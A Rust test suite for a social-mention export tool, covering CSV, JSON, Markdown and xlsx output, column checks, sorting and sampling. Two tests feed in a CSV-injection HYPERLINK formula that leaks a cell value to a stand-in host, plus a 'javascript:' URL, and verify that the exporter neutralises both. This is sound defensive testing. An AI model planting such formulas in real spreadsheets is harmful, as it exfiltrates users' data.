use crate::common::{earful, fixture};

#[test]
fn csv_has_fixed_columns_and_flattens() {
    let out = earful()
        .args(["export", "--format", "csv"])
        .arg(fixture("records/mixed.jsonl"))
        .assert()
        .code(1)
        .get_output()
        .clone();
    let mut reader = csv::Reader::from_reader(&out.stdout[..]);
    let headers = reader.headers().unwrap().clone();
    assert_eq!(&headers[0], "id");
    assert_eq!(
        headers.iter().collect::<Vec<_>>(),
        earful::export::DEFAULT_COLUMNS.to_vec()
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    assert_eq!(&rows[0][col("author.handle")], "maria_k");
    assert_eq!(&rows[0][col("author.followers")], "120");
    assert_eq!(&rows[1][col("metrics.likes")], "12");
    assert_eq!(
        &rows[2][col("links")],
        "https://a.example | https://b.example"
    );
    assert_eq!(&rows[2][col("title")], "Café review");
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("mixed.jsonl:4: invalid JSON"), "{stderr}");
    assert!(
        stderr.contains("mixed.jsonl:6: expected an object, found an array"),
        "{stderr}"
    );
    assert!(
        stderr.contains("skipped 2 malformed lines of 5"),
        "{stderr}"
    );
}

#[test]
fn custom_columns_reach_unknown_fields() {
    earful()
        .args(["export", "--columns", "id,my_field.keep", "-"])
        .write_stdin("{\"id\":\"a\",\"my_field\":{\"keep\":[1,2]}}\n")
        .assert()
        .success()
        .stdout("id,my_field.keep\na,1 | 2\n");
}

#[test]
fn json_is_one_array_and_format_follows_the_file_name() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("out.json");
    earful()
        .args(["export", "-o"])
        .arg(&path)
        .write_stdin("{\"id\":\"a\"}\n{\"id\":\"b\"}\n")
        .assert()
        .success()
        .stdout("");
    let v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    assert_eq!(v, serde_json::json!([{"id": "a"}, {"id": "b"}]));
}

#[test]
fn unknown_format_is_a_usage_error() {
    earful()
        .args(["export", "--format", "pdf"])
        .write_stdin("")
        .assert()
        .code(2)
        .stderr(predicates::str::contains(
            "earful export: unknown format \"pdf\"",
        ));
}

#[test]
fn strict_stops_at_the_first_bad_line() {
    earful()
        .args(["export", "--strict", "--format", "jsonl"])
        .arg(fixture("records/mixed.jsonl"))
        .assert()
        .code(1)
        .stdout(predicates::str::contains("x:2"))
        .stdout(predicates::str::contains("web:3").not())
        .stderr(predicates::str::contains("mixed.jsonl:4: invalid JSON"));
}

use predicates::prelude::PredicateBooleanExt;

/// Issue 14, item 10: `--columns ''` (or an empty name in the list) is a usage error before
/// anything is written, not a CSV of empty columns.
#[test]
fn regression_14_10_empty_columns_are_a_usage_error() {
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("report.csv");
    std::fs::write(&report, "kept\n").unwrap();
    for columns in ["", "id,,text"] {
        earful()
            .args(["export", "--columns", columns, "-o"])
            .arg(&report)
            .arg(fixture("records/airline-mentions.jsonl"))
            .assert()
            .code(2)
            .stdout("")
            .stderr(
                "earful export: --columns: expected comma-separated dotted paths, found an \
                 empty one\n",
            );
        assert_eq!(std::fs::read_to_string(&report).unwrap(), "kept\n");
    }
}

/// Issue 14 item 10: numbers in fields earful does not know keep their digits as written.
#[test]
fn big_numbers_keep_their_digits() {
    let line = r#"{"id":"a","text":"x","big":123456789012345678901234567890,"price":1.10}"#;
    for format in ["csv", "json", "jsonl"] {
        let columns: &[&str] = match format {
            "csv" => &["--columns", "id,big,price"],
            _ => &[],
        };
        let out = earful()
            .args(["export", "-f", format])
            .args(columns)
            .write_stdin(format!("{line}\n"))
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0));
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains("123456789012345678901234567890"),
            "{format}: {text}"
        );
        assert!(text.contains("1.10"), "{format}: {text}");
    }
}

/// Issue 14 item 10 (decided, docs/schema.md "What a valid line is"): a field of the wrong
/// type is a bad line for a stage that reads it (filter), while export copies it as it is.
#[test]
fn a_wrongly_typed_field_is_bad_where_it_is_read() {
    let line = "{\"id\":\"a\",\"text\":5}\n";
    let out = earful()
        .args(["filter", ""])
        .write_stdin(line)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("<stdin>:1: invalid type"), "{stderr}");
    let out = earful()
        .args(["export", "--columns", "id,text"])
        .write_stdin(line)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "id,text\na,5\n");
}

/// Issue 15: the format follows `--format`, else the `-o` extension; an extension that names
/// no format is a usage error before the file is touched, never a silent CSV.
#[test]
fn format_follows_the_extension_and_an_unknown_one_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    let tsv = dir.path().join("out.TSV");
    earful()
        .args(["export", "--columns", "id,text", "-o"])
        .arg(&tsv)
        .write_stdin("{\"id\":\"a\",\"text\":\"x, y\"}\n")
        .assert()
        .success();
    assert_eq!(
        std::fs::read_to_string(&tsv).unwrap(),
        "id\ttext\na\tx, y\n"
    );
    for name in ["report.pdf", "report"] {
        let path = dir.path().join(name);
        earful()
            .args(["export", "-o"])
            .arg(&path)
            .write_stdin("{\"id\":\"a\"}\n")
            .assert()
            .code(2)
            .stderr(predicates::str::contains("cannot tell the format of"))
            .stderr(predicates::str::contains("pass --format"));
        assert!(!path.exists(), "{name} was created");
    }
    let forced = dir.path().join("report.txt");
    earful()
        .args(["export", "--format", "jsonl", "-o"])
        .arg(&forced)
        .write_stdin("{\"id\":\"a\"}\n")
        .assert()
        .success();
    assert_eq!(
        std::fs::read_to_string(&forced).unwrap(),
        "{\"id\":\"a\"}\n"
    );
}

/// Issue 15: a CSV read back with the `csv` crate gives the record's values, formula-looking
/// texts neutralised with a leading `'` (kept as they are with `--raw`), numbers left alone,
/// embedded newlines quoted, ids text; `--bom` starts the file with a byte order mark.
#[test]
fn csv_round_trips_and_is_excel_safe() {
    let title = "=HYPERLINK(\"http://x/?d=\"&A1,\"Click\")";
    let record = serde_json::json!({
        "id": "0012",
        "title": title,
        "text": "line one\nline \"two\", with comma",
        "author": {"handle": "@maria"},
        "sentiment": {"score": -0.4, "label": "negative"},
        "tags": ["-x", "y"],
    });
    let input = format!("{record}\n");
    let columns = "id,title,text,author.handle,sentiment.score,sentiment.label,tags";
    let read = |args: &[&str]| {
        let out = earful()
            .args(["export", "--columns", columns])
            .args(args)
            .write_stdin(input.clone())
            .assert()
            .success()
            .get_output()
            .stdout
            .clone();
        let mut reader = csv::Reader::from_reader(&out[..]);
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 1);
        (out, rows[0].iter().map(str::to_owned).collect::<Vec<_>>())
    };
    let (_, safe) = read(&[]);
    assert_eq!(
        safe,
        [
            "0012",
            &format!("'{title}"),
            "line one\nline \"two\", with comma",
            "'@maria",
            "-0.4",
            "negative",
            "'-x | y",
        ]
    );
    let (_, raw) = read(&["--raw"]);
    assert_eq!(
        raw,
        [
            "0012",
            title,
            "line one\nline \"two\", with comma",
            "@maria",
            "-0.4",
            "negative",
            "-x | y",
        ]
    );
    let (bytes, _) = read(&["--bom"]);
    assert!(bytes.starts_with("\u{feff}id,".as_bytes()));
    let (bytes, _) = read(&[]);
    assert!(bytes.starts_with(b"id,"));
}

/// Issue 15: `-o x.md` is a Markdown table, one mention per row, `|` escaped, newlines
/// flattened.
#[test]
fn markdown_is_one_table_row_per_mention() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("week.md");
    earful()
        .args(["export", "-o"])
        .arg(&path)
        .write_stdin(
            "{\"id\":\"a\",\"platform\":\"x\",\"published\":\"2024-01-10T10:00:00Z\",\
             \"text\":\"late | again\\nand again\",\"labels\":[\"complaint\",\"urgent\"]}\n",
        )
        .assert()
        .success();
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        "| published | platform | author.handle | sentiment.label | labels | text |\n\
         | --- | --- | --- | --- | --- | --- |\n\
         | 2024-01-10T10:00:00Z | x |  |  | complaint \\| urgent | late \\| again and again |\n"
    );
}

/// Issue 15: an xlsx file read back with calamine has typed cells, hostile text as text, and
/// the counts sheet.
#[test]
fn xlsx_reads_back_with_types_and_counts() {
    use calamine::{Data, Reader, Xlsx, open_workbook};
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("report.xlsx");
    let long = "é".repeat(40_000);
    let lines = [
        serde_json::json!({"id": "x:1765432109876543210", "published": "2024-03-01T12:00:00Z",
            "text": "=HYPERLINK(\"http://x/?d=\"&A1,\"Click\")", "url": "https://example.com/a",
            "sentiment": {"score": -0.4, "label": "negative"}, "metrics": {"likes": 12},
            "labels": ["complaint", "urgent"], "airline": "united"}),
        serde_json::json!({"id": "2", "published": "not a date", "text": long,
            "url": "javascript:alert(1)", "sentiment": {"score": 0.5, "label": "positive"},
            "labels": ["complaint"]}),
        serde_json::json!({"id": "3", "text": "plain"}),
    ];
    let input: String = lines.iter().map(|l| format!("{l}\n")).collect();
    earful()
        .args([
            "export",
            "--columns",
            "id,published,text,url,sentiment.score,metrics.likes,labels,airline",
            "-o",
        ])
        .arg(&path)
        .write_stdin(input)
        .assert()
        .success()
        .stdout("");
    let mut book: Xlsx<_> = open_workbook(&path).unwrap();
    assert_eq!(book.sheet_names(), ["Mentions", "Counts"]);
    let sheet = book.worksheet_range("Mentions").unwrap();
    let row = |r: u32| -> Vec<Data> {
        (0..8)
            .map(|c| sheet.get_value((r, c)).cloned().unwrap_or(Data::Empty))
            .collect()
    };
    assert_eq!(row(0)[0], Data::String("id".into()));
    let first = row(1);
    assert_eq!(first[0], Data::String("x:1765432109876543210".into()));
    match &first[1] {
        Data::DateTime(d) => assert_eq!(d.as_f64(), 45_352.5),
        other => panic!("published is not a date: {other:?}"),
    }
    assert_eq!(
        first[2],
        Data::String("=HYPERLINK(\"http://x/?d=\"&A1,\"Click\")".into())
    );
    assert_eq!(first[3], Data::String("https://example.com/a".into()));
    assert_eq!(first[4], Data::Float(-0.4));
    assert_eq!(first[5], Data::Float(12.0));
    assert_eq!(first[6], Data::String("complaint | urgent".into()));
    assert_eq!(first[7], Data::String("united".into()));
    let second = row(2);
    assert_eq!(second[1], Data::String("not a date".into()));
    assert_eq!(
        second[2].to_string().chars().count(),
        earful::export::XLSX_MAX_TEXT
    );
    assert_eq!(second[3], Data::String("javascript:alert(1)".into()));
    assert_eq!(row(3)[1], Data::Empty);
    // No cell is a formula, and only the web URL is a link.
    let formulas = book.worksheet_formula("Mentions").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "{formulas:?}"
    );
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&path).unwrap()).unwrap();
    let mut rels = String::new();
    std::io::Read::read_to_string(
        &mut zip.by_name("xl/worksheets/_rels/sheet1.xml.rels").unwrap(),
        &mut rels,
    )
    .unwrap();
    assert!(rels.contains("Target=\"https://example.com/a\""), "{rels}");
    assert!(!rels.contains("javascript"), "{rels}");
    let counts = book.worksheet_range("Counts").unwrap();
    let rows: Vec<Vec<String>> = counts
        .rows()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
    assert_eq!(
        rows[0],
        [
            "label", "mentions", "negative", "neutral", "positive", "other", "none"
        ]
    );
    assert_eq!(rows[1], ["(all mentions)", "3", "1", "0", "1", "0", "1"]);
    assert_eq!(rows[2], ["complaint", "2", "1", "0", "1", "0", "0"]);
    assert_eq!(rows[3], ["urgent", "1", "1", "0", "0", "0", "0"]);
    assert_eq!(rows[4], ["(no label)", "1", "0", "0", "0", "0", "1"]);
}

#[test]
fn xlsx_needs_a_file() {
    earful()
        .args(["export", "--format", "xlsx"])
        .write_stdin("{\"id\":\"a\"}\n")
        .assert()
        .code(2)
        .stderr(predicates::str::contains("an xlsx workbook is a file"));
}

/// Issue 15: `--columns` names are trimmed, `+name` adds pass-through fields to the default
/// set, and a name neither in the schema nor in the data is a usage error that lists the
/// known columns and creates no file.
#[test]
fn columns_are_checked_against_the_schema_and_the_data() {
    let input = "{\"id\":\"a\",\"airline\":\"united\",\"x\":{\"y\":[1,2]}}\n{\"id\":\"b\",\"negativereason\":\"Late Flight\"}\n";
    earful()
        .args(["export", "--columns", " id , airline,x.y "])
        .write_stdin(input)
        .assert()
        .success()
        .stdout("id,airline,x.y\na,united,1 | 2\nb,,\n");
    let out = earful()
        .args(["export", "--columns", "+airline,+negativereason"])
        .write_stdin(input)
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let mut reader = csv::Reader::from_reader(&out[..]);
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let mut want: Vec<String> = earful::export::DEFAULT_COLUMNS
        .iter()
        .map(|c| (*c).to_owned())
        .collect();
    want.extend(["airline".to_owned(), "negativereason".to_owned()]);
    assert_eq!(headers, want);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!((&rows[0][30], &rows[1][31]), ("united", "Late Flight"));

    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("out.csv");
    earful()
        .args(["export", "--columns", "id,airlin", "-o"])
        .arg(&path)
        .write_stdin(input)
        .assert()
        .code(2)
        .stderr(predicates::str::contains(
            "earful export: --columns: unknown column \"airlin\"",
        ))
        .stderr(predicates::str::contains("known columns: id, platform"));
    assert!(!path.exists());
    earful()
        .args(["export", "--columns", "id,+airline"])
        .write_stdin(input)
        .assert()
        .code(2);
    earful()
        .args(["export", "--format", "json", "--columns", "id"])
        .write_stdin(input)
        .assert()
        .code(2)
        .stderr(predicates::str::contains(
            "--columns applies to csv, tsv, md and xlsx",
        ));
}

fn ids(args: &[&str], input: &str) -> Vec<String> {
    let out = earful()
        .args(["export", "--columns", "id"])
        .args(args)
        .write_stdin(input.to_owned())
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    String::from_utf8(out)
        .unwrap()
        .lines()
        .skip(1)
        .map(str::to_owned)
        .collect()
}

/// Issue 15: `--sort`, `--dedup` (a file concatenated from two runs exports once) and a
/// deterministic `--sample`.
#[test]
fn sort_dedup_and_sample() {
    let run = "{\"id\":\"a\",\"published\":\"2024-03-02T00:00:00Z\",\"sentiment\":{\"score\":0.5},\"author\":{\"followers\":5}}\n\
               {\"id\":\"b\",\"published\":\"2024-03-01T00:00:00Z\",\"sentiment\":{\"score\":-0.5}}\n\
               {\"id\":\"c\",\"published\":\"2024-03-03T00:00:00Z\",\"author\":{\"followers\":50}}\n";
    let twice = format!("{run}{run}");
    assert_eq!(ids(&["--dedup"], &twice), ["a", "b", "c"]);
    assert_eq!(ids(&[], &twice).len(), 6);
    assert_eq!(
        ids(&["--dedup", "--sort", "published"], &twice),
        ["b", "a", "c"]
    );
    assert_eq!(
        ids(&["--dedup", "--sort", "-published"], &twice),
        ["c", "a", "b"]
    );
    assert_eq!(
        ids(&["--dedup", "--sort", "score"], &twice),
        ["b", "a", "c"]
    );
    assert_eq!(ids(&["--dedup", "--sort=reach"], &twice), ["c", "a", "b"]);
    let many: String = (0..500)
        .map(|i| format!("{{\"id\":\"{i:03}\"}}\n"))
        .collect();
    let sample = ids(&["--sample", "20", "--seed", "42"], &many);
    assert_eq!(sample.len(), 20);
    assert!(
        sample.windows(2).all(|w| w[0] < w[1]),
        "input order: {sample:?}"
    );
    assert_eq!(sample, ids(&["--sample", "20", "--seed", "42"], &many));
    assert_ne!(sample, ids(&["--sample", "20", "--seed", "43"], &many));
    earful()
        .args(["export", "--sort", "likes"])
        .write_stdin("")
        .assert()
        .code(2);
    earful()
        .args(["export", "--seed", "1"])
        .write_stdin("")
        .assert()
        .code(2);
}
